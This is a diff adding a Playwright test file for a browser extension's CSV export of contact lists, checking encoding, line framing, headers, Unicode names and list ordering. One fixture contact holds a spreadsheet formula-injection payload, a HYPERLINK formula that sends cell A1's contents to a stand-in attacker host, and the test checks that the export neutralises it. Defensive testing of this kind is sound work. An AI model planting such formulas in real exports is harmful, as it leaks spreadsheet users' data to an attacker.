@@ -1,0 +1,165 @@
+import { readFile } from 'node:fs/promises';
+import type { Download, Page } from '@playwright/test';
+import Papa from 'papaparse';
+import { expect, test } from './fixtures';
+
+// Written out here rather than imported, so a reordering in lib/csv fails this test.
+const HEADER = [
+  'listName',
+  'capturedAt',
+  'id',
+  'listId',
+  'baseContactId',
+  'firstName',
+  'lastName',
+  'fullName',
+  'headline',
+  'role',
+  'companyName',
+  'location',
+  'avatar',
+  'seniority',
+  'positions',
+  'linkedInSalesNavigatorProfileUrl',
+  'createdAt',
+  'currentTitle',
+  'currentCompany',
+  'email',
+  'phone',
+];
+
+const contacts = [
+  {
+    baseContactId: 'urn:li:member:1',
+    firstName: 'Ada',
+    lastName: 'Lovelace',
+    fullName: 'Ada Lovelace',
+    headline: 'Sells, analytically, "at scale"\nand writes',
+    role: 'VP Sales',
+    companyName: 'Stripe',
+    seniority: ['VP'],
+    positions: [
+      { title: 'VP Sales', companyName: 'Stripe', tenureInMonths: 27, location: 'London' },
+      { title: 'Account Executive', companyName: 'Acme', tenureInMonths: 11 },
+    ],
+    linkedInSalesNavigatorProfileUrl: 'https://www.linkedin.com/sales/lead/ACwAA1,NAME_SEARCH,x',
+    email: 'ada@example.com',
+    phone: '+44 20 7946 0958',
+  },
+  {
+    baseContactId: 'urn:li:member:2',
+    fullName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    role: '-Chief Revenue Officer',
+    companyName: '@Globex',
+  },
+  { baseContactId: 'urn:li:member:3', firstName: '小龍', lastName: '李', fullName: '李小龍 🐉', location: '香港' },
+  { baseContactId: 'urn:li:member:4', fullName: 'Zoë Ångström-Šťastná', location: 'Zürich, Schweiz 🇨🇭' },
+];
+
+async function createList(page: Page, name: string, people: readonly object[]) {
+  const created = await page.evaluate(
+    (payload) => chrome.runtime.sendMessage({ type: 'lists.create', payload }),
+    { name, filters: { jobTitles: ['VP Sales'] }, contacts: people },
+  );
+  expect(created).toMatchObject({ ok: true, data: { name, contactCount: people.length } });
+  return (created as { data: { id: string; createdAt: string } }).data;
+}
+
+function localDates(): string[] {
+  // The day the browser saw at the click: today, or yesterday when the test straddled midnight.
+  return [Date.now(), Date.now() - 60_000].map((now) => {
+    const date = new Date(now);
+    return [date.getFullYear(), date.getMonth() + 1, date.getDate()].map((n) => String(n).padStart(2, '0')).join('-');
+  });
+}
+
+async function saveBy(page: Page, click: () => Promise<void>): Promise<{ download: Download; bytes: Buffer }> {
+  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
+  expect(await download.failure()).toBeNull();
+  const path = await download.path();
+  return { download, bytes: await readFile(path) };
+}
+
+/** Checks the BOM and strict RFC 4180 framing (CRLF after every record), then parses. */
+function parseCsvFile(bytes: Buffer): string[][] {
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes.subarray(3));
+  const field = '(?:"(?:[^"]|"")*"|[^",\\r\\n]*)';
+  expect(text).toMatch(new RegExp(`^(?:${field}(?:,${field})*\\r\\n)+$`));
+  const parsed = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' });
+  expect(parsed.errors).toEqual([]);
+  return parsed.data.slice(0, -1);
+}
+
+function byHeader(rows: string[][]): Record<string, string>[] {
+  return rows.map((row) => Object.fromEntries(HEADER.map((header, i) => [header, row[i] ?? ''])));
+}
+
+test('"Export CSV" saves the list as a UTF-8 CSV with a BOM, CRLF, a header and neutralised formulas', async ({
+  context,
+  extensionUrl,
+}) => {
+  const panel = await context.newPage();
+  await panel.goto(extensionUrl('sidepanel.html'));
+  const list = await createList(panel, 'Zürich / 東京: VP Sales', contacts);
+
+  await panel.getByRole('link', { name: 'Zürich / 東京: VP Sales' }).click();
+  const { download, bytes } = await saveBy(panel, () => panel.getByRole('button', { name: 'Export CSV' }).click());
+
+  expect(localDates().map((day) => `Zürich _ 東京_ VP Sales-${day}.csv`)).toContain(download.suggestedFilename());
+  const [header, ...rows] = parseCsvFile(bytes);
+  expect(header).toEqual(HEADER);
+  expect(rows).toHaveLength(contacts.length);
+  for (const row of rows) expect(row).toHaveLength(HEADER.length);
+
+  const [ada, attacker, bruce, zoe] = byHeader(rows);
+  expect(ada).toMatchObject({
+    listName: 'Zürich / 東京: VP Sales',
+    capturedAt: list.createdAt,
+    listId: list.id,
+    baseContactId: 'urn:li:member:1',
+    fullName: 'Ada Lovelace',
+    headline: 'Sells, analytically, "at scale"\nand writes',
+    seniority: 'VP',
+    positions: 'VP Sales at Stripe (London, 2 yr 3 mo) | Account Executive at Acme (11 mo)',
+    currentTitle: 'VP Sales',
+    currentCompany: 'Stripe',
+    email: 'ada@example.com',
+    phone: "'+44 20 7946 0958",
+  });
+  expect(attacker).toMatchObject({
+    fullName: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+    role: "'-Chief Revenue Officer",
+    companyName: "'@Globex",
+    currentTitle: "'-Chief Revenue Officer",
+    email: '',
+    phone: '',
+  });
+  expect(bruce).toMatchObject({ firstName: '小龍', lastName: '李', fullName: '李小龍 🐉', location: '香港' });
+  expect(zoe).toMatchObject({ fullName: 'Zoë Ångström-Šťastná', location: 'Zürich, Schweiz 🇨🇭' });
+  for (const row of rows) {
+    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  }
+});
+
+test('"Export all" on the lists view saves every list in one file with a list column', async ({ context, extensionUrl }) => {
+  const panel = await context.newPage();
+  await panel.goto(extensionUrl('sidepanel.html'));
+  const older = await createList(panel, 'Fintech CROs', contacts.slice(0, 2));
+  // Lists are ordered by capture time: let the clock move before the second one.
+  await expect(panel.getByRole('link', { name: 'Fintech CROs' })).toBeVisible();
+  const newer = await createList(panel, 'Müller GmbH – Vertrieb', contacts.slice(2));
+  await expect(panel.getByRole('link', { name: 'Müller GmbH – Vertrieb' })).toBeVisible();
+
+  const { download, bytes } = await saveBy(panel, () => panel.getByRole('button', { name: 'Export all' }).click());
+
+  expect(localDates().map((day) => `All lists-${day}.csv`)).toContain(download.suggestedFilename());
+  const [header, ...rows] = parseCsvFile(bytes);
+  expect(header).toEqual(HEADER);
+  expect(byHeader(rows).map(({ listName, listId, fullName }) => ({ listName, listId, fullName }))).toEqual([
+    { listName: 'Müller GmbH – Vertrieb', listId: newer.id, fullName: '李小龍 🐉' },
+    { listName: 'Müller GmbH – Vertrieb', listId: newer.id, fullName: 'Zoë Ångström-Šťastná' },
+    { listName: 'Fintech CROs', listId: older.id, fullName: 'Ada Lovelace' },
+    { listName: 'Fintech CROs', listId: older.id, fullName: `'=HYPERLINK("https://evil.example/?"&A1,"Click")` },
+  ]);
+});
